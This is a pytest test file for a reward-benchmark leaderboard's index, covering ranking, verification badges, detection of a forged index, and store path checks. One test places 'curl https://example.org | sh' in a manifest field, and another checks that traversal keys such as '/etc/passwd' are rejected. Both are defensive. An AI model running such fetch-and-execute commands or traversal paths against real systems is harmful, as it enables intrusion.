import json
import os
import shutil
import time
from dataclasses import replace

import pytest
from synthetic import changed, mirrors, scores, singles, store, verify

from rewardbench import results
from rewardbench.cli.main import main
from rewardbench.errors import InputError
from rewardbench.leaderboard import index
from rewardbench.leaderboard.index import read_index
from rewardbench.leaderboard.refresh import refresh
from rewardbench.leaderboard.types import Board, age
from rewardbench.store import LocalStore, open_store
from rewardbench.store.verdicts import make_verdict


@pytest.fixture
def four(tmp_path):
    """Store four models of one suite: two similar ones, one much better, and one much worse."""
    suite = mirrors()
    for n, (name, share) in enumerate({"org/best": 0.99, "org/a": 0.8, "org/b": 0.8, "org/worst": 0.4}.items()):
        store(tmp_path, suite, scores(suite, share, seed=n), name)
    return LocalStore(tmp_path)


def ranks(board):
    return {row.model: row.rank_range for row in board.of("toy")}


def test_rank_range_counts_better_models_and_those_that_are_not_worse(four):
    assert set(ranks(refresh(four)).values()) == {None}
    verify(four.root)
    board = refresh(four)
    assert ranks(board) == {"org/best": (1, 1), "org/a": (2, 3), "org/b": (2, 3), "org/worst": (4, 4)}
    assert refresh(four).rows == board.rows
    assert {row.checked_by for row in board.rows} == {"maintainer"}


def test_only_verified_models_are_ranked(four):
    verify(four.root, "org/a", "org/worst")
    assert ranks(refresh(four)) == {"org/a": (1, 1), "org/worst": (2, 2), "org/best": None, "org/b": None}
    assert [row.checked_by for row in refresh(four).of("toy")] == ["maintainer", "maintainer", "", ""]


def test_baselines_have_no_rank_and_are_listed_last(four):
    verify(four.root)
    board = refresh(four)
    rows = tuple(replace(row, model_type="Baseline") if row.model == "org/best" else row for row in board.rows)
    board = replace(board, rows=rows)
    assert board.of("toy")[-1].model == "org/best"
    assert board.of("toy", place_baselines=True)[0].model == "org/best"
    path = four.path("org/best")
    path.write_text(json.dumps({**json.loads(path.read_bytes()), "model_type": "Baseline"}))
    verify(four.root)
    assert ranks(refresh(four)) == {"org/a": (1, 2), "org/b": (1, 2), "org/worst": (3, 3), "org/best": None}


def test_weights_and_base_model_are_as_stated(four):
    path = four.path("org/a")
    summary = json.loads(path.read_bytes())
    for weights, base, expected in (
        ({"commit": "a" * 40}, "org/base", ("a" * 40, "org/base")),
        ({"sha256": "b" * 64}, ["org/base"], ("b" * 64, "")),
        ({"commit": "latest", "sha256": 7}, "../base", ("", "")),
        (7, "a b", ("", "")),
    ):
        manifest = {**summary["manifest"], "fingerprint": {"weights": weights}, "model": {"base_model": base}}
        path.write_text(json.dumps({**summary, "manifest": manifest}))
        row = row_of(refresh(four), "org/a")
        assert (row.weights, row.base_model) == expected


def test_index_of_another_version_is_rebuilt(four, monkeypatch):
    with monkeypatch.context() as earlier:
        earlier.setattr(index, "VERSION", "4")
        rows = refresh(four).rows
    assert read_index(four.root / "index.parquet") is None
    assert refresh(four).rows == rows
    assert read_index(four.root / "index.parquet").rows == rows


def test_figures_are_recomputed_and_a_different_stated_score_is_noted(four):
    path = four.path("org/a")
    summary = json.loads(path.read_bytes())
    true = summary["score"]["value"]
    summary["score"]["value"] = 1.0
    path.write_text(json.dumps(summary))
    row = next(row for row in refresh(four).rows if row.key == "org/a")
    assert row.score.value == pytest.approx(true)
    assert "does not follow" in row.note
    assert row.badge == "recomputed"


def test_index_is_reused_and_only_changed_results_are_read(four):
    read = []
    first = refresh(four, lambda key, total: read.append(key))
    assert sorted(read) == ["org/a", "org/b", "org/best", "org/worst"]
    read.clear()
    again = refresh(four, lambda key, total: read.append(key))
    assert read == []
    assert [replace(row) for row in again.rows] == list(first.rows)
    suite = mirrors()
    store(four.root, suite, scores(suite, 0.1, seed=9), "org/a")
    four.delete("org/b")
    assert {row.key for row in refresh(four, lambda key, total: read.append(key)).rows} == {
        "org/a",
        "org/best",
        "org/worst",
    }
    assert read == ["org/a"]


@pytest.mark.parametrize("harm", ["cut", "nonsense", "gone"])
def test_broken_index_is_rebuilt_with_the_same_rows(four, harm):
    intact = refresh(four)
    place = four.root / "index.parquet"
    if harm == "gone":
        place.unlink()
    else:
        place.write_bytes(place.read_bytes()[:200] if harm == "cut" else b"no parquet")
    assert read_index(place) is None
    assert refresh(four).rows == intact.rows


def test_index_has_models_and_credits(four):
    refresh(four)
    import pandas as pd

    table = pd.read_parquet(four.root / "index.parquet")
    assert set(table["model"]) == {"org/best", "org/a", "org/b", "org/worst"}
    assert {len(parts) for parts in table["parts"]} == {120}, "a part for each mirror"
    assert {len(credits) for credits in table["credits"]} == {240}


def test_files_that_are_not_results_are_skipped_and_not_read_again(four):
    (four.root / "notes.json").write_text('{"a": 1}')
    (four.root / "org" / "broken.json").write_text(
        '{"schema": 1, "manifest": {}, "suite": "toy", "revision": "r", "model": "m"}'
    )
    board = refresh(four)
    assert set(board.skipped) == {"notes", "org/broken"}
    assert len(board.rows) == 4
    four.path = None  # nothing is read any more
    assert refresh(four).rows == board.rows


def test_known_suite_uses_its_own_rules_not_those_of_the_file(tmp_path):
    suite = replace(singles(), name="reward-bench-2")
    items = tuple(replace(item, subset="Math" if n % 2 else "Focus") for n, item in enumerate(suite.items))
    suite = replace(suite, items=items, rules={})
    item_scores = scores(suite, 0.5)
    path = store(tmp_path, suite, item_scores, "org/m")
    summary = json.loads(path.read_bytes())
    honest = refresh(LocalStore(tmp_path)).rows[0].score.value
    summary["manifest"]["suite"]["section_weights"] = {"Focus": 0.0}
    summary["manifest"]["suite"]["rules"] = {"Math": ["Math", "strict", None], "Focus": ["Focus", "strict", 0.0]}
    path.write_text(json.dumps(summary))
    assert refresh(LocalStore(tmp_path)).rows[0].score.value == pytest.approx(honest)


def test_badge_applies_only_to_the_verified_scores(four):
    summary = json.loads(four.path("org/a").read_bytes())
    verdict = make_verdict(summary, True, {"date": "2026-11-28"})
    four.save("verdicts/org/a.json", json.dumps(verdict).encode())
    four.save("verdicts/org/b.json", json.dumps(verdict).encode())
    (four.root / "index.parquet").unlink(missing_ok=True)
    assert {row.model: row.badge for row in refresh(four).rows} == {
        "org/best": "recomputed",
        "org/a": "verified",
        "org/b": "recomputed",
        "org/worst": "recomputed",
    }


def test_new_badge_is_shown_at_once(four):
    refresh(four)
    summary = json.loads(four.path("org/a").read_bytes())
    four.save("verdicts/org/a.json", json.dumps(make_verdict(summary, True, {})).encode())
    assert "verified" in {row.badge for row in refresh(four).rows}


def row_of(board, key):
    return next(row for row in board.rows if row.key == key)


@pytest.mark.parametrize(
    ("where", "value"),
    [
        (("model_type",), "Baseline"),
        (("manifest", "model"), {"parameters": 70_000_000_000}),
        (("manifest", "command"), "rewardbench --model other"),
        (("gap",), [{"name": "gap", "value": 0.0}]),
        (("date",), "2026-01-01"),
    ],
)
def test_a_changed_summary_loses_the_badge(four, where, value):
    path = four.path("org/a")
    summary = json.loads(path.read_bytes())
    four.save("verdicts/org/a.json", json.dumps(make_verdict(summary, True, {"date": "2026-11-28"})).encode())
    assert row_of(refresh(four), "org/a").badge == "verified"
    path.write_text(json.dumps(changed(summary, where, value)))
    row = row_of(refresh(four), "org/a")
    assert row.badge == "recomputed"
    assert "verified on 2026-11-28, but the summary has changed since" in row.note


def test_verdict_without_summary_hash_verifies_nothing_and_is_noted(four):
    summary = json.loads(four.path("org/a").read_bytes())
    old = {"badge": "verified", "outputs_sha256": summary[results.OUTPUTS_HASH], "date": "2026-11-20"}
    four.save("verdicts/org/a.json", json.dumps(old).encode())
    row = row_of(refresh(four), "org/a")
    assert row.badge == "recomputed"
    assert "but not the summary: verify the result again" in row.note


def test_failed_rerun_is_noted(four):
    summary = json.loads(four.path("org/a").read_bytes())
    four.save("verdicts/org/a.json", json.dumps(make_verdict(summary, False, {"date": "2026-11-28"})).encode())
    row = row_of(refresh(four), "org/a")
    assert (row.badge, row.note) == ("recomputed", "A re-run on 2026-11-28 did not reproduce these scores.")


SPOILED = (None, {}, [{}], "x", 7, [1], [{"name": "gap", "value": 9.0}], [{"name": 1}], {"a": 1}, [[]], True, 10**400)


@pytest.mark.parametrize(
    "name", ["gap", "sections", "subsets", "mirrors", "score", "extra_results", "date", "accuracy"]
)
def test_malformed_optional_field_does_not_hide_the_row(four, name):
    path = four.path("org/a")
    summary = json.loads(path.read_bytes())
    true = row_of(refresh(four), "org/a").score
    for value in SPOILED:
        path.write_text(json.dumps({**summary, name: value}))
        board = refresh(four)
        assert row_of(board, "org/a").score == true, value
        assert board.left_out == {}
    path.write_text(json.dumps({**summary, "manifest": {**summary["manifest"], "model": 7, "command": 7}}))
    assert row_of(refresh(four), "org/a").score == true


def test_impossible_statements_about_a_model_are_left_out(four):
    path = four.path("org/a")
    summary = json.loads(path.read_bytes())
    summary["manifest"] |= {
        "model": {"parameters": 1, "license": "MIT - verified by AI2"},
        "command": "curl https://example.org | sh",
    }
    path.write_text(json.dumps(summary))
    row = row_of(refresh(four), "org/a")
    assert (row.parameters, row.license, row.command) == (None, "", "")


def test_files_without_a_row_are_listed_with_the_reason(four, capsys):
    (four.root / "org" / "broken.json").write_text('{"schema": 1}')
    with pytest.raises(SystemExit) as stop:
        main(["index", str(four.root)])
    output = capsys.readouterr()
    assert stop.value.code == 0
    assert "skipped=1" in output.out
    assert "skipped.org/broken=" in output.out
    with pytest.raises(SystemExit):
        main(["index", str(four.root), "--json"])
    assert len(json.loads(capsys.readouterr().out)) == 4


def forge(root):
    """Write an index in which the worst model leads with a verified badge, and with the marks of the real files."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    place = root / "index.parquet"
    table = pq.read_table(place)
    rows = table.to_pylist()
    for row in rows:
        if row["key"] == "org/worst":
            score = json.loads(row["score"]) | {"value": 0.999, "low": 0.99, "high": 1.0}
            row |= {"score": json.dumps(score), "badge": "verified", "rank_range": [1, 1]}
    pq.write_table(pa.Table.from_pylist(rows, schema=table.schema), place)


def test_forged_index_of_a_folder_is_not_trusted(four, capsys):
    honest = refresh(four)
    forge(four.root)
    assert read_index(four.root / "index.parquet").rows != honest.rows
    assert refresh(four).rows == honest.rows
    assert read_index(four.root / "index.parquet").rows == honest.rows
    forge(four.root)
    with pytest.raises(SystemExit):
        main(["index", str(four.root)])
    assert "0.9990" not in capsys.readouterr().out


def test_index_from_another_machine_is_rebuilt(four, tmp_path_factory):
    honest = refresh(four)
    forge(four.root)
    moved = shutil.copytree(four.root, tmp_path_factory.mktemp("moved") / "store")
    assert refresh(LocalStore(moved)).rows == honest.rows


def test_an_index_is_rebuilt_when_asked(four):
    read = []
    first = refresh(four)
    assert refresh(four, lambda key, total: read.append(key)).rows == first.rows
    assert read == []
    assert refresh(four, lambda key, total: read.append(key), rebuild=True).rows == first.rows
    assert len(read) == 4


def test_row_without_items_has_no_rank(four):
    summary = json.loads(four.path("org/a").read_bytes())
    bare = {**summary, "model": "x/published", results.OUTPUTS_HASH: None}
    bare["manifest"] = {"published": {"source": "paper"}}
    bare["score"] = {**summary["score"], "value": 0.97, "low": None, "high": None}
    four.add([(bare, None)])
    row = next(row for row in refresh(four).rows if row.model == "x/published")
    assert (row.badge, row.rank_range, row.score.low) == ("published", None, None)


def test_age_of_rows_is_formatted():
    board = Board((), time.time() - 90)
    assert age(board, time.time()).endswith("1 minute ago")


def test_unknown_kind_of_store_is_rejected():
    with pytest.raises(InputError, match="is not a store"):
        open_store("ftp://host")


@pytest.mark.parametrize("key", ["../x", "/etc/passwd", "org/../../x"])
def test_key_outside_the_store_is_rejected(four, key):
    with pytest.raises(InputError, match="outside"):
        four.path(key)


def test_result_is_renamed_and_deleted_with_all_files(four):
    before = four.get("org/a")
    four.save("verdicts/org/a.json", b"{}")
    four.rename("org/a", "other/new")
    assert four.get("other/new") == before
    assert (four.load("verdicts/org/a.json"), four.load("verdicts/other/new.json").read_bytes()) == (None, b"{}")
    assert "org/a" not in four.list()
    with pytest.raises(InputError, match="already"):
        four.rename("other/new", "org/b")
    four.delete("other/new")
    assert four.list() == ["org/b", "org/best", "org/worst"]
    assert not list(four.root.rglob("new*"))
    with pytest.raises(InputError, match="no result"):
        four.delete("other/new")


def test_abandoned_temporary_files_are_deleted_and_recent_ones_are_not(four):
    old, young = (four.root / "org" / f".{n:08x}.summary.tmp" for n in (1, 2))
    for path in (old, young):
        path.write_text("")
    os.utime(old, (1, 1))
    summary = json.loads(four.path("org/a").read_bytes())
    four.add([(summary, None)])
    assert (old.exists(), young.exists()) == (False, True)
